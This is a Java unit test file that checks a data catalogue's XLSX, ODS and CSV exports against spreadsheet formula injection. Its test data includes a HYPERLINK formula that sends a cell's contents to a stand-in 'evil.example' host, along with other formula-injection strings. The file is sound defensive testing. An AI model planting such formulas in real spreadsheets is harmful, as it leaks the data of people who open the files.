package org.datafirst.catalogue.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.datafirst.catalogue.catalogue.document.DatasetDocument;
import org.datafirst.catalogue.sources.DocumentParser;
import org.datafirst.catalogue.support.SourceFiles;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A crafted description can never become a formula in an exported XLSX, ODS or CSV file. */
class FormulaInjectionTest {

    static final String PAYLOAD = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for details\")";

    static DatasetDocument crafted() {
        String yaml = SourceFiles.dataset("crafted")
                .replace(
                        "{name: sex, type: string,",
                        "{name: sex, type: string, description: '" + PAYLOAD.replace("'", "''") + "', label: '+1+cmd',"
                                + " qualityNotes: '@SUM(1,2)', evidence: '-2+3',");
        return DocumentParser.dataset(yaml.getBytes(StandardCharsets.UTF_8), "crafted.yaml");
    }

    static final Sheet.Title TITLE = new Sheet.Title("Crafted", "release 1", LocalDate.of(2025, 1, 1));

    @Test
    void xlsxCellsAreLiteralQuotePrefixedTextAndNoCellIsAFormula() throws IOException {
        byte[] xlsx = XlsxWriter.write(DictionarySheets.dataset(crafted()), TITLE);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Cell description = workbook.getSheet("Variables").getRow(3).getCell(3);
            assertThat(description.getCellType()).isEqualTo(CellType.STRING);
            assertThat(description.getStringCellValue()).isEqualTo(PAYLOAD);
            assertThat(description.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(workbook.getSheet("Variables")
                            .getRow(3)
                            .getCell(2)
                            .getCellStyle()
                            .getQuotePrefixed())
                    .isTrue();
            for (var sheet : workbook) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType())
                                .as("%s!%s", sheet.getSheetName(), cell.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                    }
                }
            }
        }
    }

    @Test
    void odsCellsAreStringValuesWithoutFormulas() throws IOException {
        byte[] ods = OdsWriter.write(DictionarySheets.dataset(crafted()), TITLE);
        String content = entry(ods, "content.xml");
        assertThat(content)
                .doesNotContain("table:formula")
                .contains("<text:p>=HYPERLINK(\"https://evil.example/?\"&amp;A1");
        SheetContent.Workbook read = WorkbookReader.read(ods, "crafted.ods", Workbooks.LIMITS, () -> false);
        assertThat(read.problems()).isEmpty();
        assertThat(read.sheet("Variables").orElseThrow().rows().get(3).cell(3)).isEqualTo(PAYLOAD);
    }

    @Test
    void csvCellsArePrefixedWithAnApostrophe() {
        Sheet variables = DictionarySheets.dataset(crafted()).stream()
                .filter(s -> s.name().equals("Variables"))
                .findFirst()
                .orElseThrow();
        String csv = new String(CsvWriter.write(variables), StandardCharsets.UTF_8);
        assertThat(csv)
                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click for details\"\")\"")
                .contains("\"'+1+cmd\"")
                .contains("\"'@SUM(1,2)\"")
                .contains("\"'-2+3\"");
        assertThat(CellText.forCsv("\tcmd")).isEqualTo("'\tcmd");
        assertThat(CellText.forCsv("plain")).isEqualTo("plain");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {" =1+1", "   +cmd", "  @SUM(1,2)", " -2+3", "\n=1+1", " \t=1+1", "\t=1+1"})
    void spacesBeforeAFormulaDoNotHideIt(String text) throws IOException {
        // CSV: prefixed with an apostrophe
        assertThat(CellText.forCsv(text)).isEqualTo("'" + text);
        // XLSX: a quote-prefixed (literal) text cell
        Sheet sheet = new Sheet("S", List.of(Sheet.Column.of("Header", 20)), List.of(List.of(text)));
        try (XSSFWorkbook workbook =
                new XSSFWorkbook(new ByteArrayInputStream(XlsxWriter.write(List.of(sheet), TITLE)))) {
            Cell cell = workbook.getSheet("S").getRow(XlsxWriter.HEADER_ROWS).getCell(0);
            assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell.getStringCellValue()).isEqualTo(text);
            assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
        }
        // ODS: a string cell, never a formula
        assertThat(entry(OdsWriter.write(List.of(sheet), TITLE), "content.xml")).doesNotContain("table:formula");
    }

    @Test
    void textThatOnlyContainsFormulaCharactersLaterIsLeftAlone() {
        assertThat(CellText.forCsv("a = b")).isEqualTo("a = b");
        assertThat(CellText.forCsv("   ")).isEqualTo("   ");
    }

    @Test
    void exportsAreByteForByteStableSoETagsAre() {
        var sheets = DictionarySheets.dataset(crafted());
        assertThat(XlsxWriter.write(sheets, TITLE)).isEqualTo(XlsxWriter.write(sheets, TITLE));
        assertThat(OdsWriter.write(sheets, TITLE)).isEqualTo(OdsWriter.write(sheets, TITLE));
    }

    static String entry(byte[] zip, String name) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                if (e.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new IllegalArgumentException(name);
    }
}
